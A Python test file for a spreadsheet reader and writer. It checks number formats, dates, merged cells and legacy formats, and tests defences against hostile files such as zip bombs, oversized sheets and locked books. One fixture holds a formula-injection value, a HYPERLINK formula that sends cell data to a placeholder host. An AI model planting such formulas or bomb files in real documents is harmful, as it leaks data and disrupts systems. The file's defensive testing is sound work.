"""Spreadsheets from outside: numbers as shown, real days, merged cells; hostile files harm nobody."""

from __future__ import annotations

import base64
import io
import zipfile
import zlib
from datetime import date, datetime

import pytest
import xlsxwriter

from iris.gateways.sheets import Limits, read_table, write_xlsx
from iris.gateways.sheets_padded import shown_as
from iris.rules.errors import RuleBroken
from iris.rules.lists import Form, find_header, undo_neutralised

# A small old-style workbook: Licence No, Name, Valid until / 10 as 0000, Müller & Søn, 2026-12-31.
OLD_XLS = (
    b"c-rk)O=uHA6#izDG(V>Ksj1KkVJR53wxD>?L%UVbUfNI<R7BJ?*+Xcukr)s4pw*hAAb3)|6sq8*>ct=Qpf?X<MFl|+5<Pkn6"
    b"naRrzIoY58WkGQf?>a9-n@A;Z|CiMZ)SG)^<ua*cfYrcCJe)Ys_8{XgG^BI)*B&EziCRgUVEsRHvTJkJru|e7oK#!bjujZc$"
    b"cBzp7S|T;1iYOIE{GD(A71>UbZ12qzywv1#XfgfF8E0i)oVSdZu@I<Wr_2EV;sTh{l%0F)V8F{#{lUA65FeF93Pphph8~B|F"
    b"fK7cz@4TotvkF6_yt6Pb4Dh&uh42Ss{RH}t%0dvOa+U^^k|4B|F?z%*enn;lH0N{CQO%;USM0^jOu|Cwsb*H$h-@}-q>_aEd"
    b"Qis<j;UJ7or{F*|spMiObmsk;goN&q>C&toe3Ki^@xxt0fVl181jij!|b0ml-vidsUa3YgVsb`HsI^ze%E18U*S7Yj-CBr9A"
    b"3*KEqD|VMoUUhz=DFm4h^V$oM;gvgI-;7UAXeU`R!zW7Z+}R`zg^7z&gOmf@qcC+)>1Tc$(@T8Ujm-BljZpqm9h>O3nEkUn<"
    b"}&xjXr7&nx7y|gehcx%F9#k)i=VZv#4n7N&qWsAYjfx$XQoJBUb7ew1LDSYiN{*K7S<m1k!jB_`;|utS+<+j;TpuUbTT2#wA"
    b"PZ|5kFgs<twQznzYX=K9+TnFKXijYfJCc`V^Y`)jI{lN*5lm>qZ(*cOPunuwlc74I4IWv_FLP7VWTJ^Ig_ky4(7%vrMIG|0Z"
    b"c$97K+;0(}<lgF$s3(=FxC2Dn81USgFx_5XzuM`-purZCBNOtqZ9^pzzVpJ&yIp})6;TAjbzik<&>{vRYi<ZA"
)


def cells(table):
    return [line.cells for line in table.lines()]


def book(fill):
    target = io.BytesIO()
    made = xlsxwriter.Workbook(target, {"in_memory": True})
    fill(made)
    made.close()
    return target.getvalue()


def refusal(data, **told):
    with pytest.raises(RuleBroken) as refused:
        read_table(data, "list.xlsx", **told)
    assert str(refused.value).endswith(".")
    return refused.value.code


def plain(made):
    page = made.add_worksheet("Agencies")
    for number, row in enumerate([("Licence No", "Name"), ("0010", "Orchard"), ("0020", "Reaz")]):
        page.write_row(number, 0, row)


def test_a_number_shown_with_zeros_comes_back_as_shown():
    def fill(made):
        page = made.add_worksheet()
        page.write_row(0, 0, ["Licence No", "Zip", "Other", "Count", "Rate"])
        page.write_number(1, 0, 10, made.add_format({"num_format": "0000"}))
        page.write_number(1, 1, 918, made.add_format({"num_format": "00000"}))
        page.write_number(1, 2, 10, made.add_format({"num_format": '"RL-"0000'}))
        page.write_number(1, 3, 10)
        page.write_number(1, 4, 7.25)

    assert cells(read_table(book(fill), "list.xlsx"))[1] == ("0010", "00918", "RL-0010", "10", "7.25")


@pytest.mark.parametrize(
    ("code", "value", "shown"),
    [
        ("0000", "10", "0010"),
        ("0000", "12345", "12345"),
        ('"RL-"0000', "10", "RL-0010"),
        ("000\\-00\\-0000", "123456789", "123-45-6789"),
        ("[$-409]00000", "918", "00918"),
        ("0000;-0000", "10", "0010"),
        ("0", "7", None),
        ("0.00", "7", None),
        ("#,##0", "7000", None),
        ("yyyy-mm-dd", "46000", None),
        ("0000", "10.5", None),
    ],
)
def test_formats_that_pad(code, value, shown):
    assert shown_as(code, value) == shown


def test_days_are_days_and_texts_are_texts():
    def fill(made):
        page = made.add_worksheet()
        day = made.add_format({"num_format": "dd/mm/yyyy"})
        page.write_row(0, 0, ["Name", "Valid until", "Text"])
        page.write_string(1, 0, "NA")
        page.write_datetime(1, 1, datetime(2026, 12, 31), day)  # noqa: DTZ001 - a day without a zone
        page.write_string(1, 2, "0010")
        page.write_boolean(2, 0, True)
        page.write_string(2, 2, "two\nlines")

    assert cells(read_table(book(fill), "list.xlsx"))[1:] == [
        ("NA", date(2026, 12, 31), "0010"),
        ("TRUE", "", "two\nlines"),
    ]


def test_rows_and_columns_keep_their_places_and_padding_is_left_out():
    def fill(made):
        page = made.add_worksheet()
        page.write_row(3, 1, ["Name", "No"])
        page.write_row(5, 1, ["Alpha", "1"])
        page.write_blank(900, 20, None, made.add_format({"bold": True}))

    table = read_table(book(fill), "list.xlsx")
    assert [(line.number, line.cells) for line in table.lines()] == [
        (1, ()),
        (2, ()),
        (3, ()),
        (4, ("", "Name", "No")),
        (5, ()),
        (6, ("", "Alpha", "1")),
    ]
    assert find_header(table).first_line == 4


def test_a_cell_merged_over_rows_stands_on_each():
    def fill(made):
        page = made.add_worksheet()
        page.merge_range(0, 0, 1, 0, "Name")
        page.merge_range(0, 1, 0, 2, "Office")
        page.write_row(1, 1, ["Street", "City"])
        page.merge_range(2, 0, 3, 0, "Alpha Ltd")
        page.write_row(2, 1, ["1 Road", "Dhaka"])
        page.write_row(3, 1, ["2 Road", "Dhaka"])

    table = read_table(book(fill), "list.xlsx")
    assert find_header(table).names == ("Name", "Street", "City")
    assert cells(table)[2:] == [("Alpha Ltd", "1 Road", "Dhaka"), ("Alpha Ltd", "2 Road", "Dhaka")]


def test_the_sheet_with_most_rows_is_read_and_the_others_are_said():
    def fill(made):
        made.add_worksheet("Notes").write_row(0, 0, ["see", "below"])
        plain(made)
        made.add_worksheet("Empty")
        hidden = made.add_worksheet("Hidden")
        hidden.write_column(0, 0, list("abcdefgh"))
        hidden.hide()

    data = book(fill)
    table = read_table(data, "list.xlsx")
    assert (table.sheet, table.other_sheets) == ("Agencies", ("Notes",))
    assert cells(read_table(data, "list.xlsx", sheet="Notes")) == [("see", "below")]
    assert refusal(data, sheet="Nots") == "sheet_unknown"


def test_a_table_from_a_sheet_can_be_gone_through_twice_at_once():
    table = read_table(book(plain), "list.xlsx")
    assert all(one == two for one, two in zip(table.lines(), table.lines(), strict=True))


def test_the_name_of_a_file_decides_nothing(tmp_path):
    path = tmp_path / "list.csv"
    path.write_bytes(book(plain))
    table = read_table(path, "list.csv")
    assert table.form is Form.XLSX
    assert cells(table)[1] == ("0010", "Orchard")


def test_old_workbooks_are_read():
    table = read_table(zlib.decompress(base64.b85decode(b"".join([OLD_XLS]))), "list.xls")
    assert table.form is Form.XLS
    assert cells(table) == [("Licence No", "Name", "Valid until"), ("10", "Müller & Søn", date(2026, 12, 31))]


CONTENT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet>
<table:table table:name="List">
<table:table-row><table:table-cell office:value-type="string"><text:p>Licence No</text:p></table:table-cell>
<table:table-cell office:value-type="string"><text:p>Name</text:p></table:table-cell>
<table:table-cell table:number-columns-repeated="{columns}"/></table:table-row>
<table:table-row table:number-rows-repeated="2"><table:table-cell table:number-columns-repeated="1024"/>
</table:table-row>
<table:table-row><table:table-cell office:value-type="float" office:value="10"><text:p>0010</text:p></table:table-cell>
<table:table-cell office:value-type="string"><text:p>Müller<text:s text:c="2"/>&amp; Søn</text:p><text:p>Ltd</text:p>
</table:table-cell>
<table:table-cell office:value-type="date" office:date-value="2026-12-31"><text:p>31/12/26</text:p></table:table-cell>
<table:table-cell office:value-type="float" office:value="7000"><text:p>7,000</text:p></table:table-cell>
</table:table-row>
<table:table-row table:number-rows-repeated="1048572"><table:table-cell table:number-columns-repeated="1024"/>
</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>"""


def open_document(content, manifest=""):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        package.writestr("content.xml", content)
        package.writestr("META-INF/manifest.xml", manifest)
    return target.getvalue()


def test_open_document_cells_are_as_shown():
    table = read_table(open_document(CONTENT.format(columns=1022)), "list.ods")
    assert (table.form, table.sheet) == (Form.ODS, "List")
    assert cells(table) == [
        ("Licence No", "Name"),
        (),
        (),
        ("0010", "Müller  & Søn\nLtd", date(2026, 12, 31), "7000"),
    ]


def test_an_open_document_with_a_password_is_refused():
    assert refusal(open_document("<x/>", "<manifest:encryption-data/>")) == "book_locked"


def test_a_workbook_with_a_password_is_refused():
    container = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600
    assert refusal(container) == "book_locked"


def test_a_cut_workbook_is_refused():
    data = book(plain)
    assert refusal(data[: len(data) // 2]) == "book_damaged"
    assert refusal(data[:-30]) == "book_damaged"
    broken = bytearray(data)
    broken[60:90] = b"\xff" * 30
    assert refusal(bytes(broken)) == "book_damaged"


def test_a_workbook_without_rows_is_refused():
    assert refusal(book(lambda made: made.add_worksheet())) == "no_rows"


def test_a_package_of_another_kind_is_refused():
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as package:
        package.writestr("word/document.xml", "<x/>")
    assert refusal(target.getvalue()) == "unknown_type"


def test_too_many_columns_are_refused():
    assert refusal(book(lambda made: made.add_worksheet().write_row(0, 0, ["x"] * 300))) == "too_many_columns"


def with_part(name, content, size=None):
    """A workbook with one part replaced."""
    source = zipfile.ZipFile(io.BytesIO(book(plain)))
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as package:
        for part in source.namelist():
            package.writestr(part, content if part == name else source.read(part))
    return target.getvalue()


def test_a_bomb_is_not_opened():
    sheet = b"<worksheet>" + b" " * (40 << 20) + b"</worksheet>"
    assert refusal(with_part("xl/worksheets/sheet1.xml", sheet)) == "book_bomb"


def test_a_part_that_lies_about_its_size_is_refused():
    data = bytearray(with_part("xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * (1 << 20) + b"</worksheet>"))
    stated = (len(b"<worksheet></worksheet>") + (1 << 20)).to_bytes(4, "little")
    assert data.count(stated) == 2
    assert refusal(bytes(data.replace(stated, (1000).to_bytes(4, "little")))) == "book_damaged"


def test_a_sheet_that_reaches_to_the_far_corner_hurts_nobody():
    head = b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    rows = b'<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    data = with_part("xl/worksheets/sheet1.xml", head + rows + b"</sheetData></worksheet>")
    assert refusal(data, limits=Limits(reader_memory=600 << 20)) in {"book_too_large", "too_many_columns"}


def test_repeated_cells_without_end_hurt_nobody():
    cell = '<table:table-cell office:value-type="string" table:number-columns-repeated="9999999"><text:p>x</text:p>'
    content = CONTENT.format(columns=1).replace('<table:table-cell office:value-type="string">', cell, 1)
    assert refusal(open_document(content)) == "book_damaged"


ROWS = [
    ('=HYPERLINK("http://x.example/?"&A1)', "0010", date(2026, 12, 31), None),
    ("@ Home Accommodation Services Ltd", "'=quoted", None, 7),
    ("\u00a0=1+1", "Orchard – Dhaka", None, None),
]


def test_a_written_workbook_runs_nothing_and_comes_back_unchanged():
    data = write_xlsx(ROWS, ["name", "=no", "until", "count"])
    assert cells(read_table(data, "export.xlsx")) == [
        ("name", "=no", "until", "count"),
        ('=HYPERLINK("http://x.example/?"&A1)', "0010", date(2026, 12, 31)),
        ("@ Home Accommodation Services Ltd", "'=quoted", "", "7"),
        ("\u00a0=1+1", "Orchard – Dhaka"),
    ]
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "&apos;=HYPERLINK" in sheet or "'=HYPERLINK" in sheet
    assert undo_neutralised("'=HYPERLINK") == "=HYPERLINK"


def test_a_text_longer_than_a_cell_is_cut_visibly():
    ((long,),) = cells(read_table(write_xlsx([("x" * 40_000,)], ["name"]), "export.xlsx"))[1:]
    assert len(long) == 32_767
    assert long.endswith("x…")
